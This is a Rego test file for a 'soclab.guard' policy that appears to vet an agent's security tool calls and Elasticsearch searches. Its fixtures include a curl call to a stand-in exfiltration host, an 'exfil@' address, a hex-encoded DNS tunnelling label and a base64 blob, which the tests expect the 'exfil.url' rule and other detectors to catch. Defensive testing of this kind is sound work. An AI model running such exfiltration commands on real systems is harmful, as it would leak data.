# Facts in the input (parsing done by the caller: index expressions split into items,
# search ranges resolved, aggregation sizes, index expressions inside a body, marks in
# the arguments' text) decide exactly as the policy's own parsing, and are what the
# decision reads when given. The facts below are written as soclab's
# pytest_soclab.guard.facts computes them for the same arguments.
package soclab.guard_test

import rego.v1

with_facts(inp, facts) := object.union(inp, facts)

item_of(i, name, sel, hidden, ns) := {
	"item": i, "name": name, "selector": sel, "all": false, "remote": false,
	"date_math": false, "hidden": hidden, "namespace": ns,
}

# ---- index expressions -----------------------------------------------------------------

test_index_facts_decide_as_the_scan if {
	every c in [
		["logs-*", {"logs-*": [item_of("logs-*", "logs-*", "data", false, null)]}],
		[
			"logs-*, .security-7",
			{"logs-*, .security-7": [
				item_of("logs-*", "logs-*", "data", false, null),
				item_of(".security-7", ".security-7", "data", true, null),
			]},
		],
		["logs-*::failures", {"logs-*::failures": [item_of("logs-*::failures", "logs-*", "failures", false, null)]}],
		["logs-*-globex", {"logs-*-globex": [item_of("logs-*-globex", "logs-*-globex", "data", false, "globex")]}],
		["-logs-*", {"-logs-*": []}],
		[
			"remote:logs-*",
			{"remote:logs-*": [object.union(item_of("remote:logs-*", "remote:logs-*", "data", false, null), {"remote": true})]},
		],
	] {
		inp := search(c[0], {"size": 10})
		decide(with_facts(inp, {"index_facts": c[1]})) == decide(inp)
	}
}

test_index_facts_are_what_the_decision_reads if {
	# facts for this very expression are used (here: contradicting the text)...
	fires("scope.system_index", with_facts(search("logs-*", {}), {"index_facts": {"logs-*": [item_of(".kibana", ".kibana", "data", true, null)]}}))

	# ... and facts for another expression are not
	allowed(with_facts(search("logs-*", {}), {"index_facts": {"other": [item_of(".kibana", ".kibana", "data", true, null)]}}))
}

# ---- search ranges -----------------------------------------------------------------------

day_ns := 86400000000000

test_search_range_facts_decide_as_the_scan if {
	every c in [
		[{"gte": "2026-03-02T06:00:00Z", "lte": "2026-03-02T18:00:00Z"}, {"lo": 1772431200000000000, "hi": 1772474400000000000}],
		[{"gte": "now-365d"}, {"lo": {"now_minus_ns": 365 * day_ns}, "hi": null}],
		[{"gte": "now-2d/d", "lt": "now"}, {"lo": {"now_minus_ns": 2 * day_ns}, "hi": {"now_minus_ns": 0}}],
		[{"gt": 1772409600000, "lte": "2027-01-01"}, {"lo": 1772409600000000000, "hi": 1798761600000000000}],
		[{"gte": "yesterday"}, {"lo": "unparsed", "hi": null}],
		[{}, {"lo": null, "hi": null}],
	] {
		inp := search("logs-*", {"query": {"range": {"@timestamp": c[0]}}})
		decide(with_facts(inp, {"search_ranges": [c[1]]})) == decide(inp)
	}
}

test_search_range_facts_are_what_the_decision_reads if {
	fires("cost.time_range", with_facts(search("logs-*", {"size": 10}), {"search_ranges": [{"lo": {"now_minus_ns": 400 * day_ns}, "hi": null}]}))
	not fires("cost.time_range", with_facts(search("logs-*", {"query": {"range": {"@timestamp": {"gte": "now-400d"}}}}), {"search_ranges": []}))
}

# ---- index expressions inside a body, aggregation sizes ----------------------------------------

test_body_facts_decide_as_the_scan if {
	lookup := {"query": {"terms": {"user.name": {"index": "hr-users", "id": "1", "path": "names"}}}}
	boost := {"indices_boost": [{"logs-*": 1}, {".kibana": 2}]}
	aggs := {"aggs": {"t": {"terms": {"field": "x", "size": 5000}, "aggs": {"h": {"top_hits": {"size": 5}}}}}}
	every c in [
		[lookup, {"body_index_exprs": ["hr-users"]}],
		[boost, {"body_index_exprs": [".kibana", "logs-*"]}],
		[aggs, {"body_index_exprs": [], "agg_sizes": [
			{"key": "size", "text": "5000", "value": 5000},
			{"key": "size", "text": "5", "value": 5},
		]}],
		[{"size": 10}, {"body_index_exprs": [], "agg_sizes": []}],
	] {
		inp := search("logs-*", c[0])
		decide(with_facts(inp, c[1])) == decide(inp)
	}
}

test_body_facts_are_what_the_decision_reads if {
	fires("scope.index_outside", with_facts(search("logs-*", {}), {"body_index_exprs": ["hr-users"]}))
	fires("cost.agg_size", with_facts(search("logs-*", {}), {"agg_sizes": [{"key": "size", "text": "5000", "value": 5000}]}))
}

# ---- marks in the arguments' text ---------------------------------------------------------------

test_args_facts_decide_as_the_scan if {
	every c in [
		[call("execute", {"host": "web-01", "command": "ls -la /tmp"}), {"url": false, "address": false, "b64_run": 15, "dns_label_run": 15}],
		[
			call("execute", {"host": "web-01", "command": "curl https://drop.evil.example/x"}),
			{"url": true, "address": false, "b64_run": 15, "dns_label_run": 15},
		],
		[
			search("logs-*", {"query": {"term": {"message": "exfil@drop.example"}}}),
			{"url": false, "address": true, "b64_run": 15, "dns_label_run": 15},
		],
		[
			esql("FROM logs-* | WHERE dns.question.name == \"4a6f686e446f6570617373776f726431323334.t.evil.example\""),
			{"url": false, "address": false, "b64_run": 38, "dns_label_run": 38},
		],
		[
			call("remove_persistence", {"host": "web-01", "path": "/tmp/x", "comment": "Q2FuIHlvdSBzZWUgdGhpcyBzZWNyZXQgcGF5bG9hZD8gaXQgaXMgaGVyZQ=="}),
			{"url": false, "address": false, "b64_run": 58, "dns_label_run": 15},
		],
	] {
		decide(with_facts(c[0], {"args_facts": c[1]})) == decide(c[0])
	}
}

test_args_facts_are_what_the_decision_reads if {
	# a fact that says the text holds no URL skips the URL scan...
	inp := call("execute", {"host": "web-01", "command": "curl https://drop.evil.example/x"})
	fires("exfil.url", inp)
	not fires("exfil.url", with_facts(inp, {"args_facts": {"url": false, "address": false, "b64_run": 0, "dns_label_run": 0}}))
}

# ---- ES|QL time bounds -------------------------------------------------------------------------

test_esql_bound_facts_decide_as_the_scan if {
	every c in [
		["FROM logs-* | WHERE @timestamp >= NOW() - 400 days", {"lo": [{"now_minus_ns": 400 * day_ns}], "hi": []}],
		[
			"FROM logs-* | WHERE @timestamp >= \"2026-03-02T00:00:00Z\" AND @timestamp < \"2026-03-03T00:00:00Z\"",
			{"lo": [1772409600000000000], "hi": [1772496000000000000]},
		],
		["FROM logs-* | WHERE @timestamp >= NOW() - 2 fortnights", {"lo": ["unparsed"], "hi": []}],
		["FROM logs-* | LIMIT 10", {"lo": [], "hi": []}],
	] {
		inp := esql(c[0])
		decide(with_facts(inp, {"esql_bounds": c[1]})) == decide(inp)
	}
}

test_esql_bound_facts_are_what_the_decision_reads if {
	fires("cost.time_range", with_facts(esql("FROM logs-* | LIMIT 10"), {"esql_bounds": {"lo": [{"now_minus_ns": 400 * day_ns}], "hi": []}}))
	not fires("cost.time_range", with_facts(esql("FROM logs-* | WHERE @timestamp >= NOW() - 400 days"), {"esql_bounds": {"lo": [], "hi": []}}))
}
